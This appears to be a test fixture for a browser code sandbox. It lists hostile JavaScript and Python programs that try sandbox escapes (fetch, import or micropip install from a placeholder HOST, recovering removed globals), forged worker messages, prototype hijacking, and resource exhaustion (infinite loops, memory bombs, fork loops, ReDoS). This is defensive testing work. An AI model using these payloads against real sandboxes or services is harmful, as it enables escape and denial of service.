@@ -1,0 +1,330 @@
+// Programs that a stranger may send: each tries to get out, to stay, or to stand in the way.
+import type { ProgramLanguage } from '../src/programs/program.ts';
+
+export interface Hostile {
+  readonly name: string;
+  readonly language: ProgramLanguage;
+  /** `HOST` is the address of a server that must not be asked. */
+  readonly text: string;
+  /** What the program prints if it has been refused everything. Default: not said. */
+  readonly prints?: string;
+}
+
+/** Tries expressions. Prints those that gave something. */
+const REFUSED = 'refused\n';
+const tries = (...expressions: readonly string[]): string => `
+const got = [];
+const attempts = [${expressions.map((one) => `async () => (${one})`).join(', ')}];
+(async () => {
+  for (const attempt of attempts) {
+    try {
+      const value = await Promise.race([attempt(), new Promise((_, no) => setTimeout(no, 300))]);
+      if (value !== undefined) got.push(String(attempt));
+    } catch {}
+  }
+  console.log(got.join('\\n') || 'refused');
+})();
+`;
+
+const javascript: readonly Omit<Hostile, 'language'>[] = [
+  { name: 'an endless loop', text: 'for (;;);' },
+  {
+    name: 'a recursion of a million',
+    text: 'const f = (n) => n === 0 ? 0 : 1 + f(n - 1); f(1e6);',
+  },
+  { name: 'a billion prints', text: 'for (let i = 0; i < 1e9; i++) console.log(i);' },
+  {
+    name: 'a billion prints of nothing',
+    text: 'for (let i = 0; i < 1e9; i++) process.stdout.write("");',
+  },
+  { name: 'a billion errors', text: 'for (let i = 0; i < 1e9; i++) console.error("no", i);' },
+  {
+    name: 'fetch and its kin',
+    text: tries(
+      'fetch("HOST")',
+      'new XMLHttpRequest()',
+      'new WebSocket("HOST".replace("http", "ws"))',
+      'new EventSource("HOST")',
+      'new WebTransport("HOST")',
+      'navigator.sendBeacon("HOST")',
+      'new Request("HOST")',
+      'new RTCPeerConnection()',
+      'new Image()',
+      'new FontFace("a", "url(HOST)").load()',
+    ),
+    prints: REFUSED,
+  },
+  {
+    name: 'code from elsewhere',
+    text: tries(
+      'importScripts("HOST")',
+      'import("HOST")',
+      'import("data:text/javascript,export default 1")',
+      'new Worker("HOST")',
+      'new Worker("data:text/javascript,0")',
+      'new SharedWorker("HOST")',
+      'navigator.serviceWorker.register("HOST")',
+      'URL.createObjectURL(new Blob([]))',
+      'CSS.paintWorklet.addModule("HOST")',
+    ),
+    prints: REFUSED,
+  },
+  {
+    name: 'a way back to what was removed',
+    text: tries(
+      '(() => {}).constructor("return fetch")()',
+      '(async () => {}).constructor("return self.fetch")()',
+      'Object.getPrototypeOf(globalThis).fetch',
+      'Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).indexedDB',
+      'Reflect.get(globalThis, "postMessage")',
+      'eval("postMessage")',
+      '(0, eval)("onmessage")',
+      'new Function("return importScripts")()',
+      'self',
+      'location',
+      'navigator',
+      'MessagePort.prototype',
+      'new MessageChannel()',
+      'new Event("a").constructor.prototype.constructor("return caches")()',
+    ),
+    prints: REFUSED,
+  },
+  {
+    name: 'storage',
+    text: tries(
+      'indexedDB.open("a")',
+      'caches.open("a")',
+      'new BroadcastChannel("a")',
+      'localStorage',
+      'sessionStorage',
+      'document.cookie',
+      'cookieStore.set("a", "b")',
+      'navigator.storage.getDirectory()',
+      'navigator.locks.request("a", () => 1)',
+      'webkitRequestFileSystem(0, 1, () => {})',
+    ),
+    prints: REFUSED,
+  },
+  {
+    name: 'the page',
+    text: tries(
+      'top',
+      'parent',
+      'window',
+      'document',
+      'opener',
+      'alert(1)',
+      'open("HOST")',
+      'frames',
+    ),
+    prints: REFUSED,
+  },
+  { name: 'location', text: 'location = "HOST"; top = "HOST"; for (;;);' },
+  { name: 'close', text: tries('close()', 'self.close()', 'globalThis.close()'), prints: REFUSED },
+  {
+    name: 'forged messages',
+    text: tries(
+      'postMessage({ kind: "ended", status: 0, time: 0 })',
+      'dispatchEvent(new MessageEvent("message"))',
+      'postMessage({ kind: "snapshot", bytes: new Uint8Array(9) })',
+    ),
+    prints: REFUSED,
+  },
+  {
+    name: 'a flood of messages',
+    text: 'for (let i = 0; i < 1e6; i++) { try { postMessage({ kind: "printed", stream: "output", text: "x" }); } catch {} }',
+  },
+  {
+    name: 'whoever takes onmessage',
+    text: 'globalThis.onmessage = (e) => console.log("got", e); addEventListener("message", (e) => console.log("got", e)); setTimeout(() => console.log("refused"), 100);',
+    prints: REFUSED,
+  },
+  {
+    name: 'built-in functions that give themselves away',
+    text: `
+const stolen = [];
+for (const holder of [Function.prototype, Array.prototype, Object, String.prototype, Promise.prototype, TextEncoder.prototype, Map.prototype]) {
+  for (const name of Object.getOwnPropertyNames(holder)) {
+    const before = Object.getOwnPropertyDescriptor(holder, name);
+    if (typeof before.value !== 'function' || name === 'constructor') continue;
+    try {
+      holder[name] = function (...args) {
+        for (const one of [this, ...args]) if (Object.prototype.toString.call(one) === '[object MessagePort]') stolen.push(name);
+        return Reflect.apply(before.value, this, args);
+      };
+    } catch {}
+  }
+}
+console.log('refused');
+setTimeout(() => stolen.length && console.log(stolen), 50);`,
+  },
+  {
+    name: 'getters on every object',
+    text: `
+for (const name of ['kind', 'status', 'text', 'stream', 'time', 'killed', 'then', 'get', 'value']) {
+  Object.defineProperty(Object.prototype, name, { get() { return { kind: 'ended' }; }, set() {}, configurable: true });
+}
+throw new Error('at the end');`,
+  },
+  {
+    name: 'promises that lie',
+    text: `
+Promise.prototype.then = function () { return this; };
+Promise.resolve = () => ({ then() { for (;;); } });
+globalThis.Promise = class {};
+(async () => { await 1; console.log('on'); })();`,
+  },
+  {
+    name: 'an error that does not end',
+    text: `
+const error = new Error();
+Object.defineProperty(error, 'stack', { get() { for (;;); } });
+throw error;`,
+  },
+  {
+    name: 'an error of another kind',
+    text: 'throw new Proxy({}, { get() { throw 1; }, getPrototypeOf() { throw 2; } });',
+  },
+  {
+    name: 'a wait without an end',
+    text: 'const m = new WebAssembly.Memory({ shared: true, initial: 1, maximum: 1 }); Atomics.wait(new Int32Array(m.buffer), 0, 0);',
+  },
+  {
+    name: 'memory of WebAssembly',
+    text: 'const all = []; for (;;) { const m = new WebAssembly.Memory({ initial: 1 }); m.grow(1 << 14); new Uint8Array(m.buffer).fill(1); all.push(m); }',
+  },
+  {
+    name: 'shared memory',
+    text: tries('SharedArrayBuffer', 'new SharedArrayBuffer(8)'),
+    prints: REFUSED,
+  },
+  {
+    name: 'buffers without an end',
+    text: 'const all = []; for (;;) all.push(new Uint8Array(1 << 24).fill(1));',
+  },
+  {
+    name: 'timers without an end',
+    text: 'const f = () => { setTimeout(f, 0); setTimeout(f, 0); }; f();',
+  },
+  { name: 'promises without an end', text: 'const f = () => Promise.resolve().then(f); f();' },
+  { name: 'an expression that goes back for ever', text: '/^(a+)+$/.test("a".repeat(60) + "b");' },
+  { name: 'a number without an end', text: 'let x = 3n; for (;;) x *= x;' },
+  { name: 'process.exit that is caught', text: 'for (;;) { try { process.exit(0); } catch {} }' },
+  { name: 'a long string', text: 'console.log("x".repeat(2 ** 29 - 24));' },
+  {
+    name: 'a trap in what is printed',
+    text: 'console.log(new Proxy({}, { ownKeys() { for (;;); } })); console.log({ get a() { for (;;); } }); for (;;);',
+  },
+  {
+    name: 'other programs',
+    text: tries(
+      'require("child_process")',
+      'require("worker_threads")',
+      'require("net")',
+      'process.binding("fs")',
+      'process.kill(1)',
+      'require("/etc/passwd")',
+    ),
+    prints: REFUSED,
+  },
+];
+
+const python: readonly Omit<Hostile, 'language'>[] = [
+  { name: 'an endless loop', text: 'while True: pass' },
+  {
+    name: 'a recursion of a million',
+    text: 'import sys\nsys.setrecursionlimit(10 ** 7)\ndef f(n): return 0 if n == 0 else 1 + f(n - 1)\nf(10 ** 6)',
+  },
+  {
+    name: 'a recursion in C',
+    text: 'x = []\nfor i in range(10 ** 6): x = [x]\nrepr(x)\nprint(x == x)',
+  },
+  { name: 'a billion prints', text: 'for i in range(10 ** 9): print(i)' },
+  { name: 'a memory bomb', text: 'a = []\nwhile True: a.append(bytes(1 << 20))' },
+  { name: 'one huge object', text: 'a = bytearray(1 << 31)' },
+  { name: 'the page by JavaScript', text: 'import js\njs.fetch("HOST")' },
+  { name: 'the interpreter by JavaScript', text: 'import pyodide_js\npyodide_js._module' },
+  {
+    name: 'code of JavaScript',
+    text: 'from pyodide.code import run_js\nrun_js("fetch(\'HOST\')")',
+  },
+  {
+    name: 'hidden modules brought back',
+    text: 'import sys, importlib\nfor n in ["pyodide", "_pyodide", "_pyodide_core"]: sys.modules.pop(n, None)\nimport _pyodide_core\nimport pyodide.code\npyodide.code.run_js("fetch(\'HOST\')")',
+  },
+  {
+    name: 'JavaScript by what is in memory',
+    text: 'import gc\nfor o in gc.get_objects():\n  if "JsProxy" in type(o).__name__:\n    try: o.constructor.constructor("fetch(\'HOST\'); for(;;) postMessage(1)")()\n    except BaseException as e: print(type(e).__name__)',
+  },
+  { name: 'the network', text: 'import urllib.request\nurllib.request.urlopen("HOST")' },
+  {
+    name: 'a socket',
+    text: 'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", int("HOST".split(":")[2].strip("/"))))\ns.send(b"GET / HTTP/1.0\\r\\n\\r\\n")',
+  },
+  { name: 'requests of Pyodide', text: 'from pyodide.http import open_url\nopen_url("HOST")' },
+  { name: 'packages', text: 'import micropip\nmicropip.install("HOST/a.whl")' },
+  { name: 'fork', text: 'import os\nwhile True: os.fork()' },
+  { name: 'other programs', text: 'import subprocess\nsubprocess.run(["sh", "-c", "echo"])' },
+  {
+    name: 'threads',
+    text: 'import threading\nwhile True: threading.Thread(target=lambda: None).start()',
+  },
+  {
+    name: 'signals',
+    text: 'import signal\nsignal.signal(signal.SIGINT, lambda *a: None)\nwhile True: pass',
+  },
+  {
+    name: 'devices',
+    text: 'print(len(open("/dev/urandom", "rb").read(1 << 20)))\nopen("/dev/tty", "w").write("x" * 10 ** 6)\nwhile True: open("/dev/null", "w").write("x" * 10 ** 6)',
+  },
+  {
+    name: 'a gigabyte in a file',
+    text: 'f = open("a", "wb")\nfor i in range(1024): f.write(bytes(1 << 20))\nprint("written")',
+  },
+  {
+    name: 'a new print',
+    text: 'import builtins, sys\nbuiltins.print = None\nsys.stdout = None\nbuiltins.compile = None\nbuiltins.open = None\nraise SystemExit(7)',
+  },
+  {
+    name: 'no modules',
+    text: 'import sys\nsys.modules.clear()\nsys.path.clear()\nsys.meta_path.clear()\nraise ValueError',
+  },
+  {
+    name: 'sys.exit in a loop',
+    text: 'import sys\nwhile True:\n  try: sys.exit(1)\n  except BaseException: pass',
+  },
+  {
+    name: 'an exit that does not',
+    text: 'import atexit\nclass A:\n  def __del__(self):\n    while True: pass\nimport sys\natexit.register(lambda: (_ for _ in ()).throw(SystemExit))\na = A()\ndel a',
+  },
+  { name: 'os._exit', text: 'import os\nos._exit(3)' },
+  { name: 'abort', text: 'import os\nos.abort()' },
+  {
+    name: 'objects without an end',
+    text: 'import gc\ngc.disable()\nwhile True:\n  a = []\n  a.append(a)',
+  },
+  {
+    name: 'an expression that goes back for ever',
+    text: 'import re\nre.match(r"(a+)+$", "a" * 60 + "b")',
+  },
+  { name: 'a number without an end', text: 'x = 3\nwhile True: x *= x' },
+  { name: 'input beyond its end', text: 'while True:\n  try: input()\n  except EOFError: pass' },
+  {
+    name: 'an error that does not end',
+    text: 'class E(Exception):\n  def __str__(self):\n    while True: pass\nraise E',
+  },
+  {
+    name: 'a segmentation fault',
+    text: 'import sys\nsys.setrecursionlimit(10 ** 9)\nclass A: pass\ndef f(): return A.__getattr__\ntype(A).__call__\nexec("(" * 10 ** 5)',
+  },
+  {
+    name: 'names that are too long',
+    text: 'x = "(" * 90 + ")" * 90\neval(x)\nexec("a" * 10 ** 7 + " = 1")',
+  },
+  { name: 'sleep', text: 'import time\ntime.sleep(10 ** 6)' },
+];
+
+export const hostilePrograms: readonly Hostile[] = [
+  ...javascript.map((one) => ({ language: 'javascript', ...one }) as const),
+  ...python.map((one) => ({ language: 'python', ...one }) as const),
+];
